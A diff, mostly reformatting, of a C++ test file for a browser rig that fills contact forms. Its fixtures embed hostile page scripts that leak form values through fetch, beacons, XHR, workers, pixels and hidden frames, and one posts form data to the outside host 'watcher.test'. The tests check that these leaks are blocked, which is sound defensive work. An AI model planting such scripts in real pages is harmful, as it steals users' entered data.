@@ -40,10 +40,9 @@ Filled fill(BrowserRig& rig, std::string_view path) {
 } // namespace
 
 TEST_CASE("a form that sends itself while it is filled is stopped", "[P07]") {
-  BrowserRig rig(
-      {{"/early", form_with("document.querySelector('[name=email]').addEventListener('change',()=>{"
-                            "fetch('/beacon',{method:'POST',body:new FormData(f)});f.submit()})")},
-       {"/sent", "<h1>Thank you</h1>"}});
+  BrowserRig rig({{"/early", form_with("document.querySelector('[name=email]').addEventListener('change',()=>{"
+                                       "fetch('/beacon',{method:'POST',body:new FormData(f)});f.submit()})")},
+                  {"/sent", "<h1>Thank you</h1>"}});
   auto const [page, plan] = fill(rig, "/early");
   CHECK(rig.server.posted().empty());
   rig.browser().perform(core::PressSend{rig.step(), page, 1, plan.submit, 20'000});
@@ -100,8 +99,7 @@ TEST_CASE("WebRTC sends nothing around the proxy", "[P12]") {
 }
 
 TEST_CASE("an endless loop at the press ends in a result, with nothing sent", "[P07][P36]") {
-  BrowserRig rig(
-      {{"/loop", form_with("f.addEventListener('submit',e=>{e.preventDefault();while(true){}})")}});
+  BrowserRig rig({{"/loop", form_with("f.addEventListener('submit',e=>{e.preventDefault();while(true){}})")}});
   auto const [page, plan] = fill(rig, "/loop");
   auto const before = std::chrono::steady_clock::now();
   rig.browser().perform(core::PressSend{rig.step(), page, 1, plan.submit, 6'000});
@@ -125,9 +123,8 @@ TEST_CASE("a page that never answers again fails its look in time", "[P36]") {
 
 TEST_CASE("dialogs are answered, and an alert after the press is kept as evidence", "[P36]") {
   BrowserRig rig(
-      {{"/talks",
-        form_with("alert('hello');confirm('leave?');prompt('name?');onbeforeunload=e=>e.preventDefault();"
-                  "f.addEventListener('submit',e=>{e.preventDefault();alert('Thanks, '+f.name.value)})")}});
+      {{"/talks", form_with("alert('hello');confirm('leave?');prompt('name?');onbeforeunload=e=>e.preventDefault();"
+                            "f.addEventListener('submit',e=>{e.preventDefault();alert('Thanks, '+f.name.value)})")}});
   auto const [page, plan] = fill(rig, "/talks");
   rig.browser().perform(core::PressSend{rig.step(), page, 1, plan.submit, 10'000});
   auto const sent = rig.next<core::SendPressed>();
@@ -138,12 +135,11 @@ TEST_CASE("dialogs are answered, and an alert after the press is kept as evidenc
 }
 
 TEST_CASE("popups are closed and downloads go nowhere", "[browser]") {
-  BrowserRig rig(
-      {{"/pops", form_with("open('/other');b.addEventListener('mousedown',()=>open('/another'))")},
-       {"/file",
-        "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
-        "filename=x.bin\r\nContent-Length: 4\r\nConnection: close\r\n\r\nabcd"},
-       {"/nothing", "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"}});
+  BrowserRig rig({{"/pops", form_with("open('/other');b.addEventListener('mousedown',()=>open('/another'))")},
+                  {"/file",
+                   "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
+                   "filename=x.bin\r\nContent-Length: 4\r\nConnection: close\r\n\r\nabcd"},
+                  {"/nothing", "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"}});
   auto const page = rig.open();
   rig.go(page, rig.page("/pops"));
   CHECK(core::classify_page(*rig.look(page, ObserveUntil::form).snapshot).contact_form >= 0);
@@ -167,10 +163,10 @@ TEST_CASE("a huge page is looked at within its limits", "[P36]") {
 }
 
 TEST_CASE("a covered button is not pressed, and nothing is sent", "[P07]") {
-  BrowserRig rig({{"/covered",
-                   form_with("f.message.addEventListener('change',()=>{const d=document.createElement('div');"
-                             "d.style.cssText='position:fixed;inset:0;background:#fff;z-index:9';document."
-                             "body.append(d)})")}});
+  BrowserRig rig(
+      {{"/covered", form_with("f.message.addEventListener('change',()=>{const d=document.createElement('div');"
+                              "d.style.cssText='position:fixed;inset:0;background:#fff;z-index:9';document."
+                              "body.append(d)})")}});
   auto const [page, plan] = fill(rig, "/covered");
   rig.browser().perform(core::PressSend{rig.step(), page, 1, plan.submit, 10'000});
   auto const failed = std::get<core::StepFailed>(rig.next_result());
@@ -190,13 +186,12 @@ TEST_CASE("a form that re-renders under the hand is told as gone", "[P34]") {
 TEST_CASE("masked fields and single-page frameworks get real keys", "[browser]") {
   BrowserRig rig(
       {{"/mask",
-        form_with(
-            "const "
-            "p=document.createElement('input');p.name='phone';p.type='tel';p.placeholder='Phone';f.prepend(p)"
-            ";"
-            "let n=0;p.addEventListener('keydown',e=>{if(/\\d/.test(e.key))n++});"
-            "p.addEventListener('input',()=>{const d=p.value.replace(/\\D/g,'').slice(0,10);"
-            "p.value=d.length>6?`(${d.slice(0,3)}) ${d.slice(3,6)}-${d.slice(6)}`:d;p.title=String(n)})")}});
+        form_with("const "
+                  "p=document.createElement('input');p.name='phone';p.type='tel';p.placeholder='Phone';f.prepend(p)"
+                  ";"
+                  "let n=0;p.addEventListener('keydown',e=>{if(/\\d/.test(e.key))n++});"
+                  "p.addEventListener('input',()=>{const d=p.value.replace(/\\D/g,'').slice(0,10);"
+                  "p.value=d.length>6?`(${d.slice(0,3)}) ${d.slice(3,6)}-${d.slice(6)}`:d;p.title=String(n)})")}});
   auto const page = rig.open();
   rig.go(page, rig.page("/mask"));
   auto const seen = rig.look(page, ObserveUntil::form);
@@ -208,9 +203,8 @@ TEST_CASE("masked fields and single-page frameworks get real keys", "[browser]")
 }
 
 TEST_CASE("a form that sends into a window of its own passes the same latch", "[P07]") {
-  BrowserRig rig(
-      {{"/blank", form_with("f.target='_blank';f.email.addEventListener('change',()=>f.submit())")},
-       {"/sent", "<title>Thank you</title><h1>Thank you, your message has been sent.</h1>"}});
+  BrowserRig rig({{"/blank", form_with("f.target='_blank';f.email.addEventListener('change',()=>f.submit())")},
+                  {"/sent", "<title>Thank you</title><h1>Thank you, your message has been sent.</h1>"}});
   auto const [page, plan] = fill(rig, "/blank");
   rig.run_for(300ms);
   CHECK(rig.server.posted().empty());
@@ -225,11 +219,10 @@ TEST_CASE("a form that sends into a window of its own passes the same latch", "[
 TEST_CASE("a form that sends into a hidden frame is followed there", "[P07]") {
   BrowserRig rig(
       {{"/hidden",
-        form_with(
-            "const "
-            "i=document.createElement('iframe');i.name='x';i.style.display='none';document.body.append(i);"
-            "f.target='x';i.addEventListener('load',()=>{if(i.contentWindow.location.pathname==='/sent')"
-            "document.querySelector('h1').textContent='Thank you, we have received it'})")},
+        form_with("const "
+                  "i=document.createElement('iframe');i.name='x';i.style.display='none';document.body.append(i);"
+                  "f.target='x';i.addEventListener('load',()=>{if(i.contentWindow.location.pathname==='/sent')"
+                  "document.querySelector('h1').textContent='Thank you, we have received it'})")},
        {"/sent", "<p>ok</p>"}});
   auto const [page, plan] = fill(rig, "/hidden");
   rig.browser().perform(core::PressSend{rig.step(), page, 1, plan.submit, 20'000});
@@ -244,20 +237,19 @@ TEST_CASE("a form that sends into a hidden frame is followed there", "[P07]") {
 TEST_CASE("no way out of the page carries values while no token is armed", "[P07]") {
   BrowserRig rig(
       {{"/ways",
-        form_with(
-            "f.email.addEventListener('change',()=>{const d=f.email.value,u='email='+encodeURIComponent(d);"
-            "fetch('/fetch',{method:'POST',body:u,keepalive:true});navigator.sendBeacon('/ping',u);"
-            "const x=new XMLHttpRequest();x.open('POST','/xhr');x.send(u);"
-            "new Worker(URL.createObjectURL(new "
-            "Blob([`fetch('${location.origin}/worker',{method:'POST',body:'${u}'})`])));"
-            "const s=document.createElement('script');s.src='/jsonp?'+u;document.body.append(s);new "
-            "Image().src='/pixel?'+u;"
-            "const "
-            "i=document.createElement('iframe');i.name='x';document.body.append(i);f.target='x';f.submit();f."
-            "target='';"
-            "try{new SharedWorker(URL.createObjectURL(new "
-            "Blob([`fetch('${location.origin}/shared',{method:'POST',body:'${u}'})`])))}catch{}"
-            "})")}});
+        form_with("f.email.addEventListener('change',()=>{const d=f.email.value,u='email='+encodeURIComponent(d);"
+                  "fetch('/fetch',{method:'POST',body:u,keepalive:true});navigator.sendBeacon('/ping',u);"
+                  "const x=new XMLHttpRequest();x.open('POST','/xhr');x.send(u);"
+                  "new Worker(URL.createObjectURL(new "
+                  "Blob([`fetch('${location.origin}/worker',{method:'POST',body:'${u}'})`])));"
+                  "const s=document.createElement('script');s.src='/jsonp?'+u;document.body.append(s);new "
+                  "Image().src='/pixel?'+u;"
+                  "const "
+                  "i=document.createElement('iframe');i.name='x';document.body.append(i);f.target='x';f.submit();f."
+                  "target='';"
+                  "try{new SharedWorker(URL.createObjectURL(new "
+                  "Blob([`fetch('${location.origin}/shared',{method:'POST',body:'${u}'})`])))}catch{}"
+                  "})")}});
   auto const [page, plan] = fill(rig, "/ways");
   rig.run_for(800ms);
   for (auto const& posted : rig.server.posted()) UNSCOPED_INFO(posted.path);
@@ -267,10 +259,9 @@ TEST_CASE("no way out of the page carries values while no token is armed", "[P07
 
 TEST_CASE("a script that copies the form does not use up the token", "[P07]") {
   BrowserRig rig(
-      {{"/copied",
-        form_with("b.addEventListener('click',()=>{fetch('http://watcher.test:'+location.port+'/copy',"
-                  "{method:'POST',mode:'no-cors',body:new FormData(f)});navigator.sendBeacon('/copy',new "
-                  "FormData(f))})")},
+      {{"/copied", form_with("b.addEventListener('click',()=>{fetch('http://watcher.test:'+location.port+'/copy',"
+                             "{method:'POST',mode:'no-cors',body:new FormData(f)});navigator.sendBeacon('/copy',new "
+                             "FormData(f))})")},
        {"/sent", "<h1>Thank you, we have received your message</h1>"}});
   auto const [page, plan] = fill(rig, "/copied");
   rig.browser().perform(core::PressSend{rig.step(), page, 1, plan.submit, 20'000});
